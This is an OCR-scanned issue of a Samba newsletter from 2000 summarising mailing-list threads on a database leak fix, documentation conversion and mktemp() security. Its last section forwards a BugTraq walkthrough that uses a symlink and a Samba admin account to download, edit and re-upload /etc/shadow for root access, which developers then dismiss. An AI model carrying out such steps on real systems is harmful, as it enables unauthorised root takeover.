Samba Traffic #36 For 23 Dec 2000

Editor: Zack Brown

By John Quirk  and  Zack Brown

Samba Homepage ( | Samba List Archives ( | "Using Samba" ( | Samba Tips ( | A Samba Doc Page ( | Samba Meta-FAQ ( | Samba For IRIX FAQ (

Table Of Contents


Want to help write KC Samba? See the KC Authorship page (../author.html) , the KC Samba homepage (index.html) , and the Thread Summary FAQ (../summaryfaq.html) . Send any questions to the KCDevel mailing list. (

Mailing List Stats For This Week

We looked at 508 posts in 2284K.

There were 179 different contributors. 85 posted more than once. 0 posted last week too.

The top posters of the week were:

1. Tdb Diskspace Leak Fixed

12 Dec 2000 - 13 Dec 2000 (4 posts) Archive Link: "2.2.0 tdb diskspace leak!"

Summary By John Quirk

People: Richard BollingerJeremy Allison

Richard Bollinger posted the following:

Contrary to prior messages regarding the unbounded growth of "unexpected.tdb", it is _not_ growing to a high water mark. A quick dump of the file running on our test Solaris server shows its full of "dead" entries, not freed ones. tdbutil shows nothing on the "free list". Identical results are showing on our Linux server.

Something is going wrong in the process which is prunes out old entries, preventing them from being freed in clear_unexpected() -> traverse_fn () -> tdb_delete() -> do_delete() . The codein do_delete() checks to see if someone is traversing that record (apparently always true in this instance) and marks it "dead" rather than really deleting the entry. Thus the file grows indefinitely. Someone who understand the tdb logic may offer a simple cure?

Jeremy Allison thanked Richard for his report and said he would work on it ASAP . Later, he came back with:

I've finally fixed this (it took a while :-). Please check out the CVS and try again.

Thanks for reporting this one !

Richard replied this change had fixed his problems.

2. DocBook Conversion

13 Dec 2000 - 17 Dec 2000 (10 posts) Subject: "Docu status"

Summary By Zack BrownPeople: James MooreGerald CarterDavid Bannon

on samba-docs, James Moore noticed there had been very little traffic on that list since he'd joined a week before, and volunteered to help with the DocBook translation. He suggested, "I can set up a self contained manual with everything we will need so the docs can just be built using: autoconf, ./configure, make <doc_type>." Gerald Carter was happy to find a new interested volunteer, and replied regarding James' suggestion:

I like this. David Bannon has been working on converting a HOWTO and FAQ over to DocBook/SGML. These have been sort of a proof of concept.

David, How does this sound to you? No more checking in HTML and Text versions. Only SGML files with the real docs built by users and/or vendors?

After a bit more discussion Gerald and James agreed to speak some more offline and possibly set it up.

3. Confusion With mktmp() Libary Call

14 Dec 2000 - 18 Dec 2000 (12 posts) Archive Link: "warnings on compile"

Summary By John Quirk

People: Christopher KleinJeremy AllisonTim PotterKenichi OkuyamaSteve LangasekAndrew TridgellRobert Dahlem

Christopher Klein posted a question about a warning he was seeing.He said, "I am trying to install samba on an ftp server running freebsd 4.1 I am getting the following warning repeated many times on the initial make ... Warning: mktemp() possibly used unsafely; consider using mkstemp." Jeremy Allison replied:

The warning is wrong. mktemp is being used securely in Samba.

Every use of the generated filename uses the O_EXCL flag, which prevents /tmp races.

mkstemp doesn't do what we need here, as it returns a file descriptor which is not what we want - we want a filename that is *potentially* unique. We take care of the security issue ourselves.

Tim Potter posted a clarification:

Well the warning is technically right - mktmp() may*possibly* be used unsafely but it isn't in this case. (-:

It's a pretty annoying error though. I wonder if it's possible to patch gcc to determine whether the O_EXCL flag is not being used and then print out the warning rather than always doing it.

This started a discussion about how this is checked and what proof there is that the code is in fact correct and the need to call an external mktmp() function as smbd_mktemp() is doing similar work. Jeremy Allison said, "What I meant is that we grep for *every* use of open/fopen and check that it cannot be used for mktemp races. It's not so difficult."

Kenichi Okuyama replied to Jeremy, "Ah... Jeremy. "It's not so difficult" is quite different from "It'll never be difficult". I'm sure that you can do this work in very good quality. But still, we have chance of sneeking the problem into the samba code. And there is chance that you might miss the change."

Also durring the discussion Kenichi Okuyama gave the list this piece of Japanese folk lore:

[Binbou-Gami]: In Japan, there's said to be 8 Million Gods. In those god, there's god name 'Binbou-Gami', he's god of poverty.

What's so great about him, is that he can eat up entire resource of any kind, no matter how you may earn it. Even if other GOD tries to generate infinit resource, Binbou-Gami can waste all the resources instantly. He's one of the strongest God of all 8Millions.So, if you believe in 'Binbou-Gami's existance, you should not think about infinite resource, never. If you think there's no such a god, .... well .... look at your wallet (^^;)

Steve Langasek added, "Despite disagreeing with you about the divine nature of the Samba project leaders :), it seems to me that pulling the mktemp code entirely into Samba would be a good idea. There's enough variation in the mktemp(), mkstemp(), tmpnam(), etc. functions available on different Unices, and it's simple enough to reimplement correctly, that it might just reduce the Samba code size to do it all internally."

Jeremy Allison replied that it sounded like a good idea and asked for volunteers.

Andrew Tridgell posted his thoughts on this issue:

We continue to use mktemp() because the alternatives are worse.

If we switched to using something based on mkstemp() then we would actually open up a security hole! That is because some platforms open the file in mkstemp() with permissions of 0666, which allows an attacker to modify the file contents. That's why recent Linux man pages recommend NOT using mkstemp() and instead using tmpfile().

So now of couse people will ask why we don't use tmpfile(). We don't because it is fundamentally broken as it uses a FILE* pointer. On some major platforms FILE* is limited to 8 bit file descriptors which means tmpfile() would fail when Samba has more than 255 files open. Not good.

Despite the stupid compiler warnings mktemp() (when used properly) is the most secure option available. When something better comes along we can consider using it, butmeanwhile just put up with the stupid compiler warnings.

Kenichi Okuyama felt that Andrew's statements reinforced the need to write a samba version of this libary call. Robert Dahlem noted that there might be a memory leak in Kenichi contribution. There where no further post to this thread.

4. BugTraq Exploit Discussion

14 Dec 2000 - 17 Dec 2000 (7 posts) Subject: "BugTraq Post: Symlink attack in (all?) Samba. - Local root walkthrough by Tozz"

Summary By Zack Brown

People: Scott GiffordJeremy AllisonRobert Dahlem

Scott Gifford forwarded a post from BugTraq:


By default, Samba ( followes symlinks, which can lead to root promises. Here is an example:

I have a guy that sorts out all my uploads through SMB, he has 'admin' access (admin users = username).. This means he will work as UID 0 (root).

e.g. we have this share in /etc/smb.conf

path = /home/ftp/incoming
comment = Uploads that came through anon ftp
guest ok =no
writeable = no
force create mode = 0755
force directory mode = 0755
admin users = warezmaster

Login to the shell, or find some other way to create symlinks and create a symlink in /home/ftp/incoming you do something like

ln /etc -s

now type on you're box (local or remote works both): smbclient file:// -U warezmaster it will ask for a password, enter it and you will get something like


There we gosmb\:>cd etc
smb\:>get shadow

[root@embrace /root]
now you downloaded the shadow file onyou're localbox edit it, change you're UID to 0, or remove the password from the root account (no password required at logon)

login with smbclient again

smbclient file:// -U warezmaster enter the password

and reupload

smb\:>cd etc
smb\:>put shadow

that's it, now login to the shell, if you changed you're own uid you are now root. If you removed the password from root account just su to it and you wont need a password.


The 'Follow Symlinks' can be turned off, but it's on by default.Disable Follow Symlinks

Scott gave his take, saying:

I don't think that this "attack" is particularly surprising. Basically, he is leveraging a Samba "admin user" account into a UNIX root account, using a symlink (created from a shell) to get outside of the share.

It seems to me like a "leveraging root to get root" attack, but I guess if somebody had fileserver admins that were less trusted than their UNIX admins, it could be an issue.

Jeremy Allison replied:

Crackers must be getting desparate if they post this kind of stuff. If you've got an admin user account you are already root - why bother with all this pathetic stuff - just copy a /bin/sh onto the share, logon locally and run it from there.

Sometimes I wonder about these people. Don't they realise there are more creative things to do than re-arranging bits on a disk when you already have root permission :-).

Robert Dahlem added with disdain:Too much twits on bugtraq. :-(

man smb.conf reveals (to everyones surprise):

admin users (S)

This is a list of users who will be granted administrative privileges on the share. This means that theywill do all file operations as the super-user (root).

You should use this option very carefully, as any user in this list will be able to do anything they like on the share, irrespective of file permissions.

I stopped reading bugtraq a while ago. Every second script kid thinks he were Guninski.







Sharon And Joy

Kernel Traffic is grateful to be developed on a computer donated by Professor Greg Benson and Professor Allan Cruse in the Department of Computer Science at the University of San Francisco. This is the same department that invented FlashMob Computing. Kernel Traffic is hosted by the generous folks at All pages on this site are copyright their original authors, and distributed under the terms of theGNU General Public License version 2.0.